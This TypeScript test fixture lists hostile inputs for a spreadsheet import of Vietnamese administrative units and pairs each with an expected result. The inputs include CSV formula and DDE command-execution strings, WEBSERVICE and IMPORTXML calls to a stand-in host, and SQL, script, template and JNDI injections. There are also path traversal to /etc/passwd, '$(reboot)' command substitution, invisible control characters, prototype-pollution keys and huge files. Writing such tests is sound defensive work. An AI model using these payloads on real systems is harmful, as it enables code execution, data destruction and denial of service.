import { freshCode, HEAD, hostile, named, type HostileFile } from './hostile-file';

/** What becomes a formula, a command or a request when a spreadsheet program opens it. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("http://a.example","Bấm vào đây")',
  '=IMPORTXML("http://a.example","//a")',
  '=WEBSERVICE("http://a.example")',
  '=IMAGE("http://a.example/a.png")',
  '@import url(http://a.example)',
  "'=1+1",
  "''=1+1",
  '＝1+1',
  '=1+1;=2+2',
  "-2+3+cmd|' /C calc'!A0",
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
];

/** What other programs than a spreadsheet might take for their own. */
const INJECTIONS = [
  "Xã'); drop table org_unit; --",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{{constructor.constructor("return 1")()}}',
  '${7*7} #{7*7} <%= 7*7 %>',
  '${jndi:ldap://a.example/a}',
  '../../../../etc/passwd',
  '%00%0a%0d',
  'javascript:alert(1)',
  '$(reboot) `reboot` ; reboot',
  '😀 Xã vui 👩‍👩‍👧',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
];

/** Signs that one does not see, or that turn what follows around. */
const INVISIBLE: [string, string][] = [
  ['right to left override', '\u202e'],
  ['left to right mark', '\u200e'],
  ['isolate', '\u2066'],
  ['bell', '\u0007'],
  ['escape', '\u001b[31m'],
  ['backspace', '\b'],
  ['delete', '\u007f'],
  ['next line', '\u0085'],
  ['private message', '\u009e'],
];
/** Signs that are dropped or become blanks without harm. */
const DROPPED: [string, string][] = [
  ['zero width blank', '\u200b'],
  ['mark of byte order within', '\ufeff'],
  ['soft hyphen', '\u00ad'],
  ['no-break blank', '\u00a0'],
  ['line break', '\n'],
  ['line separator', '\u2028'],
  ['vertical tab', '\u000b'],
];

const POLLUTION = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__'];

const rows = (...lines: string[]): string => `${[HEAD, ...lines].join('\n')}\n`;

export const HOSTILE_TEXT: HostileFile[] = [
  ...FORMULAS.map((formula) => hostile(`name ${formula}`, 'imported', () => named(formula))),
  ...FORMULAS.slice(0, 6).map((formula) =>
    hostile(`code ${formula}`, 'imported', () =>
      rows(`${formula.replaceAll('"', '').slice(0, 20)}${freshCode()},Xã Hải,xã,`),
    ),
  ),
  hostile('formula after a tab', 'imported', () => named('\t=1+1')),
  hostile('formula after a carriage return', 'imported', () => named('\r=1+1')),
  ...INJECTIONS.map((text) => hostile(`name ${text}`, 'imported', () => named(text))),
  ...INVISIBLE.map(([what, sign]) => hostile(`name with ${what}`, 'problems', () => named(`Xã ${sign}Hải`))),
  ...DROPPED.map(([what, sign]) => hostile(`name with ${what}`, 'imported', () => named(`Xã ${sign}Hải`))),
  hostile('name of nothing but dropped signs', 'problems', () => named('\u200b\u200b')),
  hostile('hole in the text', 'SHEET_UNREADABLE', () => named('Xã\0Hải')),
  hostile('code with an override', 'problems', () => rows('\u202eA1,Xã Hải,xã,')),
  ...POLLUTION.flatMap((word) => [
    hostile(`heading ${word}`, 'imported', () => `${word},${HEAD}\nx,${freshCode()},Xã Hải,xã,\n`),
    hostile(`unit ${word}`, 'imported', () => rows(`${word}${freshCode()},${word},xã,`)),
  ]),
  hostile('parent __proto__', 'problems', () => rows(`${freshCode()},Xã Hải,xã,__proto__`)),
  hostile('level constructor', 'problems', () => rows(`${freshCode()},Xã Hải,constructor,`)),

  hostile('no headings', 'SHEET_COLUMNS_MISSING', () => 'H1,Xã Hải,xã,\n'),
  hostile('one column missing', 'SHEET_COLUMNS_MISSING', () => 'code,level\nH1,xã\n'),
  hostile('a heading twice', 'SHEET_COLUMN_TWICE', () => 'code,name,level,name\nH1,a,xã,b\n'),
  hostile('the same heading in two languages', 'SHEET_COLUMN_TWICE', () => 'Mã,code,name\nH1,H2,a\n'),
  hostile('headings of nothing but signs', 'SHEET_COLUMNS_MISSING', () => '---,***,   ,///\n'),
  hostile(
    'a heading of a hundred thousand letters',
    'imported',
    () => `${'a'.repeat(100_000)},${HEAD}\nx,${freshCode()},Xã Hải,xã,\n`,
  ),
  hostile('headings that are formulas', 'problems', () => '=code,=name\nH1,a\n'),
  hostile('headings alone', 'imported', () => `${HEAD}\n`),
  hostile(
    'headings beneath twenty titles',
    'SHEET_COLUMNS_MISSING',
    () => `${'tiêu đề\n'.repeat(20)}${HEAD}\n`,
  ),
  hostile('nothing', 'SHEET_EMPTY', () => ''),
  hostile('blanks', 'SHEET_EMPTY', () => ' , ,\n\t,,\n'),

  hostile('a unit beneath itself', 'problems', () => rows('X1,Phòng,phòng,X1')),
  hostile('units in a circle', 'problems', () => rows('X1,Phòng 1,phòng,X2', 'X2,Phòng 2,phòng,X1')),
  hostile('a chain of twenty thousand', 'problems', () =>
    rows(
      ...Array.from({ length: 19_999 }, (_, index) => `K${index + 1},Phòng,phòng,K${index}`),
      'K0,Phòng,phòng,',
    ),
  ),
  hostile('one code twenty thousand times', 'problems', () =>
    rows(...Array<string>(20_000).fill('X1,Phòng,phòng,')),
  ),
  hostile('one code as parent of all and of itself', 'problems', () =>
    rows(...Array<string>(10_000).fill('X1,Phòng,phòng,X1')),
  ),
  hostile('a code of ten thousand letters', 'problems', () => rows(`${'9'.repeat(10_000)},Xã Hải,xã,`)),
  hostile('a name of a million letters', 'problems', () => named('ả'.repeat(1_000_000))),
  hostile('more cells than headings', 'imported', () =>
    rows(`${freshCode()},Xã Hải,xã,${',x'.repeat(50_000)}`),
  ),
  hostile('fewer cells than headings', 'problems', () => rows('H')),
  hostile('a hundred thousand rows', 'SHEET_TOO_MANY_ROWS', () =>
    rows(...Array.from({ length: 100_000 }, (_, index) => `T${index},Xã ${index},xã,`)),
  ),
  hostile('two million empty rows', 'SHEET_TOO_MANY_ROWS', () => `${HEAD}\n${'\n'.repeat(2_000_000)}`),
  hostile('one line of four million cells', 'SHEET_EMPTY', () => ','.repeat(4_000_000) + 'x'),
  hostile('a quote that never ends', 'SHEET_UNREADABLE', () => `${HEAD}\nH1,"Xã ${'x\n'.repeat(50_000)}`),
  hostile('quotes within quotes', 'imported', () => rows(`${freshCode()},"Xã ""Hải"" ""An""",xã,`)),
  hostile('quotes where none belong', ['imported', 'SHEET_UNREADABLE'], () =>
    rows(`${freshCode()},Xã "Hải" An,xã,`),
  ),
  hostile(
    'all kinds of line ends',
    'imported',
    () => `${HEAD}\r${freshCode()},Xã A,xã,\r\n${freshCode()},Xã B,xã,\n\r`,
  ),
  hostile(
    'separators that change',
    ['problems', 'SHEET_COLUMNS_MISSING'],
    () => `${HEAD}\nH1;Xã;xã;\nH2\tXã\txã\t\n`,
  ),
  hostile(
    'a separator that is named and not used',
    'SHEET_COLUMNS_MISSING',
    () => `sep=;\n${HEAD}\nH1,Xã,xã,\n`,
  ),
];
